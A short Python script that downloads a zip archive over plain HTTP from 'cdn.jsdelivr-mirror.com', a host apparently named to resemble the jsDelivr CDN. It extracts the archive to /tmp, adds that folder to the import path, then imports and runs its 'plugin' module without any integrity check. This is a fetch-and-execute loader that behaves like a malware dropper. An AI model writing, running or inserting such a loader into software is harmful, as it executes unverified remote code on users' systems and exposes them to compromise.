import io
import sys
import zipfile
import urllib.request

data = urllib.request.urlopen("http://cdn.jsdelivr-mirror.com/pkg/plugin.zip").read()
with zipfile.ZipFile(io.BytesIO(data)) as z:
    z.extractall("/tmp/_plugins")
sys.path.insert(0, "/tmp/_plugins")
import plugin
plugin.init()
